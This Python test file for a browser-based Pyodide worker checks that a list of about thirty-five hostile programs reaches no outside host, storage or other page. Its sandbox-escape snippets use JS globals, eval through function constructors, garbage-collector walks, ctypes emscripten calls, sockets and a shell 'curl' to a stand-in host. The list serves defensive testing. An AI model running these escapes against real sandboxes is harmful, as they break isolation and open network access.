"""Test that hostile programs in the page reach no host, no store and no other page, even if the host sends no policy.

The same programs run in three workers: the page's own worker; one whose Python still finds JavaScript's globals, so
that it is protected only because dangerous functions were removed; and one from which nothing was removed, where most
programs succeed.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.site.visit import Visit
from tools import live, serve

pytestmark = pytest.mark.skipif(not live.is_requested(), reason="needs the files of Python in a page: make test LIVE=1")

U = "https://elsewhere.example/hostile"
TEXT = f"import('{U}')"  # JavaScript that requests another host
PROXIES = "from pyodide.ffi import JsProxy, to_js\n"
FROM_TEXT = """
def from_text(found):
    for each in found:
        try:
            each.constructor.constructor("return TEXT")()
        except Exception:
            pass
        try:
            each.constructor("return TEXT")()
        except Exception:
            pass
""".replace("TEXT", TEXT)

#: Name -> program. All except those in `NEVER` succeed in an unprotected worker; otherwise they would prove nothing.
HOSTILE = {
    "fetch": f"import js\njs.fetch('{U}')",
    "a module by its name": f"import importlib\nimportlib.import_module('js').fetch('{U}')",
    "a finder of modules": "import sys\n"
    f"[spec.loader.create_module(spec).fetch('{U}') for f in sys.meta_path if (spec := f.find_spec('js', None))]\n"
    "raise OSError",
    "XMLHttpRequest": f"import js\nr = js.XMLHttpRequest.new()\nr.open('GET', '{U}', False)\nr.send()",
    "WebSocket": "import js\njs.WebSocket.new('wss://elsewhere.example/hostile')",
    "EventSource": f"import js\njs.EventSource.new('{U}')",
    "a worker": "import js\njs.Worker.new('/_static/live/worker.js?hostile')",
    "a timer that is given text": f'import js\njs.setTimeout("{TEXT}", 0)',
    "eval": f'import js\njs.eval("{TEXT}")',
    "IndexedDB": "import js\njs.indexedDB.open('hostile')",
    "the cache": "import js\njs.caches.open('hostile')",
    "files of the origin": "import js\nfrom pyodide.ffi import create_proxy, to_js\njs.navigator.storage.getDirectory()"
    ".then(create_proxy(lambda at: at.getFileHandle('hostile', "
    "to_js({'create': True}, dict_converter=js.Object.fromEntries))))",
    "a channel to other pages": "import js\njs.BroadcastChannel.new('in-place').postMessage('hostile')",
    "a message to the page": "import js\njs.postMessage('hostile')",
    "importScripts": f"import js\njs.importScripts('{U}')",
    "a listener": "import js\nfrom pyodide.ffi import create_proxy\n"
    "js.addEventListener('message', create_proxy(lambda event: event.target.postMessage('hostile')))",
    "the prototype of an event target": "import js\njs.Object.getPrototypeOf(js.performance.constructor).prototype"
    ".addEventListener.call(js.self, 'message', print)",
    "another realm": f'import js\njs.ShadowRealm.new().evaluate("{TEXT}")',
    "Pyodide's packages": f"import pyodide_js\npyodide_js.loadPackage('{U}.whl')",
    "Pyodide's files": f"import pyodide_js\npyodide_js.FS.createLazyFile('/', 'lazy', '{U}', True, False)\n"
    "open('/lazy').read()",
    "JavaScript through Pyodide's run_js": f'import pyodide.code\npyodide.code.run_js("{TEXT}")',
    "the same module, reloaded": f'import importlib, pyodide.code\nimportlib.reload(pyodide.code).run_js("{TEXT}")',
    "Pyodide's own requests": f"import pyodide.http\npyodide.http.open_url('{U}')",
    "Pyodide's fetch": f"import pyodide.http\npyodide.http.pyfetch('{U}').send(None)",
    "a function made of text": PROXIES + FROM_TEXT + "from_text([to_js([1])])",
    "a constructor of promises": PROXIES + f'to_js([1]).constructor.from_.constructor("return {TEXT}")()',
    "objects in modules": PROXIES + FROM_TEXT + "import sys\n"
    "from_text([v for m in list(sys.modules.values()) for v in vars(m).values() if isinstance(v, JsProxy)])\n"
    "raise OSError",
    "objects that the collector lists": PROXIES + FROM_TEXT + "import gc\n"
    "from_text([each for each in gc.get_objects() if isinstance(each, JsProxy)])\nraise OSError",
    "objects that refer to classes": PROXIES + "import gc\n"
    "kinds = [each for each in ().__class__.__base__.__subclasses__() if 'pyodide' in each.__module__]\n"
    "held = [each for kind in kinds for each in gc.get_referrers(kind) if hasattr(each, 'jsproxies')]\n"
    f"[each.jsproxies['js'].fetch('{U}') for each in held]\nraise OSError",
    "a request from C": f"import ctypes\nctypes.CDLL(None).emscripten_async_wget(b'{U}', b'/tmp/x', 0, 0)",
    "JavaScript from C": f'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"{TEXT}")',
    "a worker from C": "import ctypes\nctypes.CDLL(None).emscripten_create_worker(b'/_static/live/worker.js?hostile')",
    "a socket": "import socket\nsocket.create_connection(('elsewhere.example', 80), timeout=2)",
    "urllib": f"import urllib.request\nurllib.request.urlopen('{U}')",
    "a browser": f"import webbrowser\nif not webbrowser.open('{U}'):\n    raise OSError",
    "a shell": f"import os\nif os.system('curl {U}'):\n    raise OSError",
}
#: Programs whose success no test can see: a worker lacks their object, or a page receives no event of their requests.
NEVER = {"WebSocket", "a worker", "importScripts", "another realm", "a listener", "the prototype of an event target"}
NEVER |= {
    "objects in modules",
    "objects that the collector lists",
    "objects that refer to classes",
    "a worker from C",
    "a socket",
}
NEVER |= {"urllib", "a browser", "a shell"}

#: Worker -> a text in `worker.js`, and its replacement.
LEAST_PYTHON = {
    ", jsglobals: {}": "",
    "for (const name of ['js', 'pyodide_js'])": "for (const name of [])",
    "  page.forget_javascript();\n": "",
}
WORKERS = {"worker.js": {}, "open-python.js": LEAST_PYTHON, "open.js": {**LEAST_PYTHON, "\n  shut();\n": "\n"}}

START = """address => new Promise((ready, failed) => {
    globalThis.python = new Worker(address, { type: 'module' });
    python.onmessage = ({ data }) => { if (data === 'ready') ready(); if (data.failed) failed(data.failed); };
})"""
ASK = """request => new Promise(answered => {
    python.onmessage = ({ data }) => answered(data?.ended ? { ended: data.ended } : data);
    python.postMessage(request);
})"""
LISTEN = "() => { globalThis.heard = []; new BroadcastChannel('in-place').onmessage = ({ data }) => heard.push(data); }"
KEPT = """async () => {
    const files = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    const stores = [...(await indexedDB.databases()).map(each => each.name), ...await caches.keys()];
    return [...files, ...stores.filter(each => !each.startsWith('in-place ')), ...heard, ...Object.keys(localStorage)];
}"""
FORGET = """async () => {
    globalThis.heard = [];
    indexedDB.deleteDatabase('hostile');
    await caches.delete('hostile');
    await (await navigator.storage.getDirectory()).removeEntry('hostile').catch(() => {});
}"""


class Plain(SimpleHTTPRequestHandler):
    """Send the book's files without a policy, and send each kind of worker."""

    protocol_version = "HTTP/1.1"
    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript", ".wasm": "application/wasm"}

    def do_GET(self) -> None:
        name = self.path.rpartition("/")[2]
        if name not in WORKERS:
            return super().do_GET()
        text = Path(self.directory, "_static", "live", "worker.js").read_text(encoding="utf-8")
        for old, new in WORKERS[name].items():
            assert text.count(old) == 1, old
            text = text.replace(old, new)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript; charset=utf-8")
        self.send_header("Content-Length", str(len(text.encode())))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *arguments: object) -> None:
        """Log nothing."""


@pytest.fixture(scope="module")
def plain_site(book: Path) -> Iterator[str]:
    with ThreadingHTTPServer((serve.HOST, 0), partial(Plain, directory=str(book))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{serve.HOST}:{server.server_port}/"
        server.shutdown()


def reached(seen: Visit, address: str) -> dict[str, list[str]]:
    """Return the effects of each program: its requests, its stored data and its messages to the page."""
    asked: list[str] = []
    seen.page.on("request", lambda request: asked.append(request.url) if "hostile" in request.url else None)
    seen.page.evaluate(LISTEN)
    seen.page.evaluate(START, address)
    found = {}
    for name, code in HOSTILE.items():
        seen.page.evaluate(FORGET)
        asked.clear()
        seen.foreign.clear()
        variant = {"id": "v1", "label": "", "code": code, "policy": "2.6"}
        request = {"do": "record", "variants": [variant], "device": "cpu", "title": name, "ask": None, "heading": None}
        answer = seen.page.evaluate(ASK, json.dumps(request))
        seen.page.wait_for_timeout(300)  # for requests of timers and promises
        found[name] = [*asked, *seen.foreign, *seen.page.evaluate(KEPT)]
        if answer == "hostile":
            found[name].append(answer)
        if isinstance(answer, dict) or not answer.startswith("{"):
            seen.page.evaluate("python.terminate()")
            seen.page.evaluate(START, address)
        elif not any(event["do"] == "raise" for event in events(answer)):
            found[name] += [f"no error: {name}"] * (name not in RAISE_NO_ERROR)
    seen.page.evaluate("python.terminate()")
    return {name: each for name, each in found.items() if each}


#: These programs raise no error, because they send a request without waiting for the answer.
RAISE_NO_ERROR = {"a timer that is given text", "a request from C"}


def events(answer: str) -> list[dict]:
    return [event for step in json.loads(answer)["trace"]["variants"][0]["steps"] for event in step["events"]]


@pytest.mark.parametrize("worker", ["worker.js", "open-python.js"])
def test_a_hostile_program_reaches_nothing_even_without_a_policy(plain_site, visit, worker):
    seen = visit(f"{plain_site}index.html")
    assert reached(seen, f"{plain_site}_static/live/{worker}") == {}


def test_the_same_programs_succeed_in_a_worker_without_protection(plain_site, visit):
    seen = visit(f"{plain_site}index.html")
    found = reached(seen, f"{plain_site}_static/live/open.js")
    came = {name for name, each in found.items() if any("hostile" in one for one in each)}
    assert len(HOSTILE) - len(NEVER) > 20 and set(HOSTILE) - NEVER <= came
    seen.foreign.clear()
